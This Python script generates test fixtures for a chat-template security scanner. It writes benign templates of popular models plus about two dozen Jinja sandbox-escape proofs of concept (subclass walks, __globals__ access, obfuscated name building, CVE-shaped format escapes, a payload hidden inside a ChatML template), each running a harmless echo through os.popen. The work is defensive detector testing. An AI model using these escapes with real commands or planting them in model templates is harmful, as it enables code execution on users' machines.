"""Build the chat-template fixtures in tests/assets/chat_templates/ (``python tests/assets/make_chat_templates.py``).

* ``benign/transformers-*.jinja``: the chat templates the installed ``transformers`` ships in its own source
  (processor defaults such as Llama 4's, Qwen2-Audio's and SmolVLM's, and module-level template constants),
  read from the package's files with :mod:`ast` (never imported from a model): what
  ``apply_chat_template`` renders when a repository brings no template of its own.
* ``benign/*.jinja`` (the rest): templates of popular models written from their published structure
  (Zephyr, Llama 2, Mistral v0.1 and the v0.3 tool-calling template, Qwen2, Gemma 2, Phi-3.5, ChatML,
  DeepSeek V3 with tools, Granite 3, Llama 3.1 with tools, Vicuna, OpenChat, Falcon). They exercise what
  real templates use: ``namespace`` counters, ``raise_exception``, ``strftime_now``, ``tojson``, loops,
  ``loop.first``/``loop.last``, slicing (``tool_call.id[-9:]``), ``split``/``strip``/``trim``.
* ``poc/*.jinja``: sandbox escapes rebuilt for the tests, one per published technique: the
  CVE-2024-34359 (llama-cpp-python "Llama Drama") shape, the Jinja escapes from ``__mro__``/
  ``__subclasses__``, ``cycler``/``joiner``/``lipsum``/``namespace`` ``__init__.__globals__``,
  ``self._TemplateReference__context``, ``|attr`` with ``format``, ``str.format`` field lookups, and the
  filter-only obfuscations (names built with ``dict(a=1)|join``, characters taken with ``.pop(n)`` from
  ``()|select|string|list``, indexing a ``{% set %}`` string, ``|e`` shifted reprs, slicing, ``%c``),
  plus one payload buried in an otherwise real ChatML template (the GGUF chat-template RCE shape).
  Every PoC runs ``echo mlvet-poc`` (or prints the ``os`` module) when rendered by a plain
  ``jinja2.Environment``: ``tests/analysis/test_chat_template_pocs.py`` proves that in a subprocess.
  ``poc/EXPECTED.json`` holds each one's minimum severity.

The files are written, not downloaded (no model hub is reachable); re-running the script rewrites them.
"""

from __future__ import annotations

import ast
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "chat_templates"

MARK = "mlvet-poc"
CMD = f"'echo {MARK}'"

# ---- benign: written from the published structure of popular models' tokenizer_config.json ----------------

BENIGN: dict[str, str] = {
    "zephyr-7b-beta": (
        "{% for message in messages %}\n"
        "{% if message['role'] == 'user' %}\n{{ '<|user|>\\n' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'system' %}\n{{ '<|system|>\\n' + message['content'] + eos_token }}\n"
        "{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\\n'  + message['content'] + eos_token }}\n"
        "{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n"
        "{% endfor %}"
    ),
    "llama-2-7b-chat": (
        "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}"
        "{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}"
        "{% set system_message = false %}{% endif %}{% for message in loop_messages %}"
        "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if loop.index0 == 0 and system_message != false %}"
        "{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}"
        "{% else %}{% set content = message['content'] %}{% endif %}"
        "{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}"
        "{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}"
        "{% endfor %}"
    ),
    "mistral-7b-instruct-v0.1": (
        "{{ bos_token }}{% for message in messages %}"
        "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
        "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
        "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
    ),
    "mistral-7b-instruct-v0.3-tools": (
        "{%- if messages[0][\"role\"] == \"system\" %}\n"
        "    {%- set system_message = messages[0][\"content\"] %}\n"
        "    {%- set loop_messages = messages[1:] %}\n"
        "{%- else %}\n    {%- set loop_messages = messages %}\n{%- endif %}\n"
        "{%- if not tools is defined %}\n    {%- set tools = none %}\n{%- endif %}\n"
        "{%- set user_messages = loop_messages | selectattr(\"role\", \"equalto\", \"user\") | list %}\n"
        "{%- set ns = namespace() %}\n{%- set ns.index = 0 %}\n"
        "{%- for message in loop_messages %}\n"
        "    {%- if not (message.role == \"tool\" or message.role == \"tool_results\" or "
        "(message.tool_calls is defined and message.tool_calls is not none)) %}\n"
        "        {%- if (message[\"role\"] == \"user\") != (ns.index % 2 == 0) %}\n"
        "            {{- raise_exception(\"After the optional system message, conversation roles must alternate "
        "user/assistant/user/assistant/...\") }}\n"
        "        {%- endif %}\n        {%- set ns.index = ns.index + 1 %}\n    {%- endif %}\n"
        "{%- endfor %}\n{{- bos_token }}\n"
        "{%- for message in loop_messages %}\n"
        "    {%- if message[\"role\"] == \"user\" %}\n"
        "        {%- if tools is not none and (message == user_messages[-1]) %}\n"
        "            {{- \"[AVAILABLE_TOOLS] [\" }}\n"
        "            {%- for tool in tools %}\n                {%- set tool = tool.function %}\n"
        "                {{- '{\"type\": \"function\", \"function\": {' }}\n"
        "                {%- for key, val in tool.items() if key != \"return\" %}\n"
        "                    {%- if val is string %}\n"
        "                        {{- '\"' + key + '\": \"' + val + '\"' }}\n"
        "                    {%- else %}\n                        {{- '\"' + key + '\": ' + val|tojson }}\n"
        "                    {%- endif %}\n"
        "                    {%- if not loop.last %}\n                        {{- \", \" }}\n"
        "                    {%- endif %}\n                {%- endfor %}\n                {{- \"}}\" }}\n"
        "                {%- if not loop.last %}\n                    {{- \", \" }}\n"
        "                {%- else %}\n                    {{- \"]\" }}\n                {%- endif %}\n"
        "            {%- endfor %}\n            {{- \"[/AVAILABLE_TOOLS]\" }}\n            {%- endif %}\n"
        "        {%- if loop.last and system_message is defined %}\n"
        "            {{- \"[INST] \" + system_message + \"\\n\\n\" + message[\"content\"] + \"[/INST]\" }}\n"
        "        {%- else %}\n            {{- \"[INST] \" + message[\"content\"] + \"[/INST]\" }}\n"
        "        {%- endif %}\n"
        "    {%- elif message.tool_calls is defined and message.tool_calls is not none %}\n"
        "        {{- \"[TOOL_CALLS] [\" }}\n        {%- for tool_call in message.tool_calls %}\n"
        "            {%- set out = tool_call.function|tojson %}\n            {{- out[:-1] }}\n"
        "            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}\n"
        "                {{- raise_exception(\"Tool call IDs should be alphanumeric strings with length 9!\") }}\n"
        "            {%- endif %}\n"
        "            {{- ', \"id\": \"' + tool_call.id + '\"}' }}\n"
        "            {%- if not loop.last %}\n                {{- \", \" }}\n"
        "            {%- else %}\n                {{- \"]\" + eos_token }}\n            {%- endif %}\n"
        "        {%- endfor %}\n"
        "    {%- elif message[\"role\"] == \"assistant\" %}\n"
        "        {{- \" \" + message[\"content\"]|trim + eos_token}}\n"
        "    {%- elif message[\"role\"] == \"tool_results\" or message[\"role\"] == \"tool\" %}\n"
        "        {%- if message.content is defined and message.content.content is defined %}\n"
        "            {%- set content = message.content.content %}\n"
        "        {%- else %}\n            {%- set content = message.content %}\n        {%- endif %}\n"
        "        {{- '[TOOL_RESULTS] {\"content\": ' + content|string + \", \" }}\n"
        "        {%- if not message.tool_call_id is defined or message.tool_call_id|length != 9 %}\n"
        "            {{- raise_exception(\"Tool call IDs should be alphanumeric strings with length 9!\") }}\n"
        "        {%- endif %}\n"
        "        {{- '\"call_id\": \"' + message.tool_call_id + '\"}[/TOOL_RESULTS]' }}\n"
        "    {%- else %}\n"
        "        {{- raise_exception(\"Only user and assistant roles are supported, with the exception of an "
        "initial optional system message!\") }}\n"
        "    {%- endif %}\n{%- endfor %}\n"
    ),
    "qwen2-7b-instruct": (
        "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
        "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
        "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
        "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    ),
    "gemma-2-9b-it": (
        "{{ bos_token }}{% if messages[0]['role'] == 'system' %}"
        "{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}"
        "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}"
        "{% set role = message['role'] %}{% endif %}"
        "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}"
        "{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"
    ),
    "phi-3.5-mini-instruct": (
        "{% for message in messages %}{% if message['role'] == 'system' and message['content'] %}"
        "{{'<|system|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}"
        "{{'<|user|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}"
        "{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}"
    ),
    "chatml": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
        "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
        "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    ),
    "deepseek-v3-tools": (
        "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
        "{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', "
        "is_first_sp=true) %}"
        "{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}"
        "{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}"
        "{%- else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}"
        "{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}"
        "{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}"
        "{{'<｜User｜>' + message['content']}}"
        "{%- endif %}{%- if message['role'] == 'assistant' and 'tool_calls' in message %}"
        "{%- set ns.is_tool = false -%}{%- for tool in message['tool_calls'] %}{%- if not ns.is_first %}"
        "{{'<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + "
        "tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + "
        "'<｜tool▁call▁end｜>'}}{%- set ns.is_first = true -%}{%- else %}"
        "{{'\\n' + '<｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + "
        "'```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}"
        "{%- endif %}{%- endfor %}{{'<｜tool▁calls▁end｜><｜end▁of▁sentence｜>'}}{%- endif %}"
        "{%- if message['role'] == 'assistant' and 'tool_calls' not in message %}{%- if ns.is_tool %}"
        "{{'<｜tool▁outputs▁end｜>' + message['content'] + '<｜end▁of▁sentence｜>'}}{%- set ns.is_tool = false -%}"
        "{%- else %}{% set content = message['content'] %}{% if '</think>' in content %}"
        "{% set content = content.split('</think>')[-1] %}{% endif %}"
        "{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endif %}"
        "{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if ns.is_output_first %}"
        "{{'<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}"
        "{%- set ns.is_output_first = false %}{%- else %}"
        "{{'<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- endif %}{%- endif %}"
        "{%- endfor -%}{% if ns.is_tool %}{{'<｜tool▁outputs▁end｜>'}}{% endif %}"
        "{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜>'}}{% endif %}"
    ),
    "granite-3.1-8b-instruct": (
        "{%- if messages[0]['role'] == 'system' %}\n    {%- set system_message = messages[0]['content'] %}\n"
        "    {%- set loop_messages = messages[1:] %}\n{%- else %}\n"
        "    {%- set system_message = \"Knowledge Cutoff Date: April 2024.\\nToday's Date: \" + "
        "strftime_now('%B %d, %Y') + \".\\nYou are Granite, developed by IBM.\" %}\n"
        "    {%- if tools and documents %}\n"
        "        {%- set system_message = system_message + \" You are a helpful AI assistant with access to the "
        "following tools.\" %}\n"
        "    {%- elif tools %}\n"
        "        {%- set system_message = system_message + \" You are a helpful AI assistant with access to the "
        "following tools.\" %}\n"
        "    {%- else %}\n        {%- set system_message = system_message + \" You are a helpful AI assistant.\" %}\n"
        "    {%- endif %}\n    {%- set loop_messages = messages %}\n{%- endif %}\n"
        "{{- '<|start_of_role|>system<|end_of_role|>' + system_message + '<|end_of_text|>\\n' }}\n"
        "{%- if tools %}\n"
        "    {{- '<|start_of_role|>tools<|end_of_role|>' }}\n    {{- tools | tojson(indent=4) }}\n"
        "    {{- '<|end_of_text|>\\n' }}\n{%- endif %}\n"
        "{%- for message in loop_messages %}\n"
        "    {{- '<|start_of_role|>' + message['role'] + '<|end_of_role|>' + message['content'] + "
        "'<|end_of_text|>\\n' }}\n"
        "    {%- if loop.last and add_generation_prompt %}\n"
        "        {{- '<|start_of_role|>assistant<|end_of_role|>' }}\n    {%- endif %}\n{%- endfor %}"
    ),
    "llama-3.1-tools-json": (
        "{{- bos_token }}\n{%- if custom_tools is defined %}\n    {%- set tools = custom_tools %}\n{%- endif %}\n"
        "{%- if not tools_in_user_message is defined %}\n    {%- set tools_in_user_message = true %}\n"
        "{%- endif %}\n{%- if not date_string is defined %}\n    {%- set date_string = \"26 Jul 2024\" %}\n"
        "{%- endif %}\n{%- if not tools is defined %}\n    {%- set tools = none %}\n{%- endif %}\n"
        "{%- if messages[0]['role'] == 'system' %}\n"
        "    {%- set system_message = messages[0]['content']|trim %}\n"
        "    {%- set messages = messages[1:] %}\n{%- else %}\n    {%- set system_message = \"\" %}\n{%- endif %}\n"
        "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}\n"
        "{%- if tools is not none %}\n    {{- \"Environment: ipython\\n\" }}\n{%- endif %}\n"
        "{{- \"Cutting Knowledge Date: December 2023\\n\" }}\n{{- \"Today Date: \" + date_string + \"\\n\\n\" }}\n"
        "{{- system_message }}\n{{- \"<|eot_id|>\" }}\n"
        "{%- for message in messages %}\n"
        "    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}\n"
        "        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim"
        " + '<|eot_id|>' }}\n"
        "    {%- elif 'tool_calls' in message %}\n"
        "        {%- if not message.tool_calls|length == 1 %}\n"
        "            {{- raise_exception(\"This model only supports single tool-calls at once!\") }}\n"
        "        {%- endif %}\n        {%- set tool_call = message.tool_calls[0].function %}\n"
        "        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}\n"
        "        {{- '{\"name\": \"' + tool_call.name + '\", ' }}\n        {{- '\"parameters\": ' }}\n"
        "        {{- tool_call.arguments | tojson }}\n        {{- \"}\" }}\n        {{- \"<|eot_id|>\" }}\n"
        "    {%- elif message.role == \"tool\" or message.role == \"ipython\" %}\n"
        "        {{- \"<|start_header_id|>ipython<|end_header_id|>\\n\\n\" }}\n"
        "        {%- if message.content is mapping or message.content is iterable %}\n"
        "            {{- message.content | tojson }}\n        {%- else %}\n            {{- message.content }}\n"
        "        {%- endif %}\n        {{- \"<|eot_id|>\" }}\n    {%- endif %}\n{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n"
        "    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}\n{%- endif %}\n"
    ),
    "vicuna-v1.5": (
        "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}"
        "{% set system_message = messages[0]['content'] | trim + '\\n\\n' %}{% else %}"
        "{% set loop_messages = messages %}{% set system_message = '' %}{% endif %}"
        "{{ system_message }}{% for message in loop_messages %}"
        "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if message['role'] == 'user' %}{{ 'USER: ' + message['content'] | trim + '\\n' }}"
        "{% elif message['role'] == 'assistant' %}{{ 'ASSISTANT: ' + message['content'] | trim + eos_token + '\\n' }}"
        "{% endif %}{% endfor %}{% if add_generation_prompt %}{{ 'ASSISTANT:' }}{% endif %}"
    ),
    "openchat-3.5": (
        "{{ bos_token }}{% for message in messages %}"
        "{{ 'GPT4 Correct ' + message['role'].title() + ': ' + message['content'] + '<|end_of_turn|>'}}"
        "{% endfor %}{% if add_generation_prompt %}{{ 'GPT4 Correct Assistant:' }}{% endif %}"
    ),
    "falcon-7b-instruct": (
        "{% for message in messages %}{% if not loop.first %}{{ '\\n' }}{% endif %}"
        "{% if message['role'] == 'system' %}{{ 'System: ' }}{% elif message['role'] == 'user' %}{{ 'User: ' }}"
        "{% elif message['role'] == 'assistant' %}{{ 'Falcon: ' }}{% endif %}{{ message['content'] }}{% endfor %}"
        "{% if add_generation_prompt %}{{ '\\n' + 'Falcon:' }}{% endif %}"
    ),
    "qwq-reasoning-split": (
        "{%- for message in messages %}\n"
        "    {%- if (message.role == \"user\") or (message.role == \"system\" and not loop.first) %}\n"
        "        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}\n"
        "    {%- elif message.role == \"assistant\" %}\n"
        "        {%- set content = message.content.split('</think>')[-1].lstrip('\\n') %}\n"
        "        {{- '<|im_start|>' + message.role + '\\n' + content.strip() + '<|im_end|>\\n' }}\n"
        "    {%- endif %}\n{%- endfor %}\n"
        "{%- if add_generation_prompt %}\n    {{- '<|im_start|>assistant\\n<think>\\n' }}\n{%- endif %}\n"
    ),
}

# ---- proofs of concept (sandbox escapes); each runs `echo mlvet-poc` when rendered without the sandbox -----

_U = "(()|select|string|list).pop(24)"  # '_' from "<generator object select_or_reject at 0x...>"

POCS: dict[str, tuple[str, str]] = {
    # CVE-2024-34359 shape: walk from a literal to object's subclasses, find one that keeps a module handle.
    "llama-drama-subclasses": (
        "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}"
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').popen(" + CMD + ").read() }}{% endif %}{% endfor %}",
        "critical",
    ),
    "wrap-close-subclass-globals": (
        "{% for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close' %}"
        "{{ c.__init__.__globals__['popen'](" + CMD + ").read() }}{% endfor %}",
        "critical",
    ),
    "cycler-init-globals": ("{{ cycler.__init__.__globals__.os.popen(" + CMD + ").read() }}", "critical"),
    "joiner-init-globals": ("{{ joiner.__init__.__globals__.os.popen(" + CMD + ").read() }}", "critical"),
    "namespace-init-globals-os": (
        "{% set ns = namespace(i=0) %}{{ namespace.__init__.__globals__['os'].popen(" + CMD + ").read() }}",
        "critical",
    ),
    "lipsum-globals-subscript": ("{{ lipsum.__globals__['os'].popen(" + CMD + ").read() }}", "critical"),
    "template-reference-context": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen(" + CMD + ").read() }}",
        "critical",
    ),
    "attr-format-dunders": (
        "{% set g = '%c%cglobals%c%c'|format(95, 95, 95, 95) %}{% set gi = '%c%cgetitem%c%c'|format(95, 95, 95, 95) %}"
        "{{ (lipsum|attr(g))|attr(gi)('os')|attr('popen')(" + CMD + ")|attr('read')() }}",
        "critical",
    ),
    "format-field-globals": ("{{ '{0.__init__.__globals__[os]}'.format(cycler) }}", "critical"),
    "hex-escaped-attr-names": (
        "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os']|attr('\\x70open')(" + CMD + ")|attr('read')() }}",
        "critical",
    ),
    "map-attribute-walk": (
        "{{ ([cycler]|map(attribute='__init__')|map(attribute='__globals__')|map(attribute='os')|first)"
        ".popen(" + CMD + ").read() }}",
        "critical",
    ),
    # Jinja sandbox escapes through the format method taken as a value: CVE-2024-56326 (a stored reference,
    # fixed in Jinja 3.1.5) and CVE-2025-27516 (|attr('format'), fixed in 3.1.6). Format fields then walk
    # to os unchecked, inside the sandbox of the affected versions too.
    "cve-2024-56326-format-reference": (
        "{% set f = '{0.__init__.__globals__[os]}'.format %}{{ f(cycler) }}",
        "critical",
    ),
    "cve-2025-27516-attr-format": (
        "{{ ('{0.__init__.__globals__[os]}'|attr('format'))(joiner) }}",
        "critical",
    ),
    # The issue-9 combination: '_' popped from a generator's repr, names from dict(...)|join.
    "pop-select-dict-join": (
        "{% set u = " + _U + " %}"
        "{% set g = (u, u, dict(glob=1, als=1)|join, u, u)|join %}"
        "{% set b = (u, u, dict(builtins=1)|join, u, u)|join %}"
        "{% set i = (u, u, dict(imp=1, ort=1)|join, u, u)|join %}"
        "{{ (((lipsum|attr(g)).get(b).get(i))(dict(o=1, s=1)|join)|attr(dict(po=1, pen=1)|join))"
        "(" + CMD + ").read() }}",
        "critical",
    ),
    "sequential-pops-set-list": (
        "{% set c = ()|select|string|list %}{% set u = c.pop(24) %}{% set o = c.pop(24) %}"
        "{% set os = o ~ dict(s=1)|join %}"
        "{{ ((lipsum|attr(u ~ u ~ 'globals' ~ u ~ u))[os]|attr(dict(pop=1,en=1)|join))(" + CMD + ").read() }}",
        "critical",
    ),
    "set-string-index": (
        "{% set a = 'abcdefghijklmnopqrstuvwxyz_' %}"
        "{% set g = a[26] ~ a[26] ~ a[6] ~ a[11] ~ a[14] ~ a[1] ~ a[0] ~ a[11] ~ a[18] ~ a[26] ~ a[26] %}"
        "{% set p = a[15] ~ a[14] ~ a[15] ~ a[4] ~ a[13] %}"
        "{{ (lipsum|attr(g)).os|attr(p)(" + CMD + ")|attr('read')() }}",
        "critical",
    ),
    "escaped-repr-index": (
        "{% set u = (()|select|e)[27] %}"
        "{{ (cycler|attr(u*2 ~ 'init' ~ u*2)|attr(u*2 ~ 'globals' ~ u*2)).os.popen(" + CMD + ").read() }}",
        "critical",
    ),
    "lipsum-repr-chars": (
        "{% set s = lipsum|string %}{% set u = s[18] %}"
        "{{ (lipsum|attr(u ~ u ~ 'glo' ~ 'bals' ~ u ~ u)).os.popen(" + CMD + ").read() }}",
        "critical",
    ),
    "slice-and-reverse-names": (
        "{% set p = 'xxpopenxx'[2:7] %}{% set g = '__slabolg__'|reverse %}"
        "{{ (lipsum|attr(g)).os|attr(p)(" + CMD + ")|attr('read')() }}",
        "critical",
    ),
    "printf-chars-tilde": (
        "{% set u = '%c'|format(95) %}{% set g = u ~ u ~ 'globals' ~ u ~ u %}"
        "{{ lipsum|attr(g)|attr('get')('os')|attr('popen')(" + CMD + ")|attr('read')() }}",
        "critical",
    ),
    "dict-keys-first": (
        "{{ (lipsum|attr(dict(__globals__=1)|list|first)).os.popen(" + CMD + ").read() }}",
        "critical",
    ),
    # Characters from a repr mlvet does not model: the name is not fully known, the technique is.
    "unmodelled-repr-chars": (
        "{% set u = ({}|items|string)[20] %}"
        "{{ (lipsum|attr(u ~ u ~ 'glob' ~ 'als' ~ u ~ u)).os.popen(" + CMD + ").read() }}",
        "high",
    ),
    # The GGUF chat-template RCE shape: a real ChatML template with the payload in its system branch.
    "buried-in-chatml": (
        "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
        "{% set u = " + _U + " %}"
        "{{ ((lipsum|attr((u, u, dict(globals=1)|join, u, u)|join)).os|attr(dict(popen=1)|join))(" + CMD + ")"
        ".read() }}"
        "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
        "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
        "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
        "critical",
    ),
}


#: Text that a finding of at least the expected severity must contain: the PoC's own technique was seen,
#: not only some other part of the payload.
NEEDLES: dict[str, str] = {
    "llama-drama-subclasses": "attribute '__subclasses__'",
    "wrap-close-subclass-globals": "attribute '__globals__'",
    "cycler-init-globals": "global 'cycler'",
    "joiner-init-globals": "global 'joiner'",
    "namespace-init-globals-os": "attribute '__globals__'",
    "lipsum-globals-subscript": "subscript 'os' (a module)",
    "template-reference-context": "attribute '_TemplateReference__context'",
    "attr-format-dunders": "name '__getitem__' assembled at render time",
    "format-field-globals": "format field {0.__init__.__globals__[os]}",
    "cve-2024-56326-format-reference": "format field {0.__init__.__globals__[os]}",
    "cve-2025-27516-attr-format": "format field {0.__init__.__globals__[os]}",
    "hex-escaped-attr-names": "|attr '__globals__'",
    "map-attribute-walk": "|map(attribute=) '__globals__'",
    "pop-select-dict-join": ".get() '__builtins__' (assembled at render time from b)",
    "sequential-pops-set-list": "name 'os' assembled at render time",
    "set-string-index": "name 'popen' assembled at render time",
    "escaped-repr-index": "|attr '__init__' (assembled at render time",
    "lipsum-repr-chars": "|attr '__globals__' (assembled at render time",
    "slice-and-reverse-names": "|attr 'popen' (assembled at render time from p)",
    "printf-chars-tilde": "name '__globals__' assembled at render time",
    "dict-keys-first": "|attr '__globals__' (assembled at render time from dict(__globals__=1)|list|first)",
    "unmodelled-repr-chars": "built from characters extracted from an object's string form",
    "buried-in-chatml": "|attr '__globals__' (assembled at render time",
}


def transformers_templates() -> dict[str, str]:
    """Chat templates in the installed transformers' own source, read with ast (never imported from there)."""
    import jinja2
    import transformers

    root = Path(transformers.__file__).resolve().parent
    env = jinja2.Environment(extensions=["jinja2.ext.loopcontrols"])  # parsed, never rendered
    out: dict[str, str] = {}
    for path in sorted(root.rglob("*.py")):
        text = path.read_text(encoding="utf-8", errors="replace")
        if "{%" not in text:
            continue
        for node in ast.walk(ast.parse(text)):
            if not (isinstance(node, ast.Constant) and isinstance(node.value, str)):
                continue
            value = node.value
            if "{%" not in value or "message" not in value or not value.lstrip().startswith(("{", "<")):
                continue
            try:
                env.parse(value)
            except jinja2.TemplateSyntaxError:
                continue
            rel = path.relative_to(root).with_suffix("")
            parts = [p for p in rel.parts if p != "models"]
            out[f"transformers-{'-'.join(parts).replace('_', '-')}-l{node.lineno}"] = value
    return out


def main() -> int:
    import transformers

    benign = OUT / "benign"
    poc = OUT / "poc"
    for folder in (benign, poc):
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.glob("*.jinja"):
            old.unlink()
    shipped = transformers_templates()
    if len(shipped) < 3:
        print("expected at least 3 templates in transformers' source", file=sys.stderr)
        return 1
    for name, text in {**shipped, **BENIGN}.items():
        (benign / f"{name}.jinja").write_text(text, encoding="utf-8")
    expected = {}
    for name, (text, severity) in POCS.items():
        (poc / f"{name}.jinja").write_text(text, encoding="utf-8")
        expected[name] = {"severity": severity, "finding_contains": NEEDLES[name]}
    (poc / "EXPECTED.json").write_text(json.dumps(expected, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    (benign / "MANIFEST.json").write_text(
        json.dumps({"transformers": transformers.__version__, "from_transformers": sorted(shipped),
                    "written_from_published_structure": sorted(BENIGN)}, indent=2) + "\n",
        encoding="utf-8",
    )
    print(f"{len(shipped)} transformers templates, {len(BENIGN)} model templates, {len(POCS)} PoCs -> {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
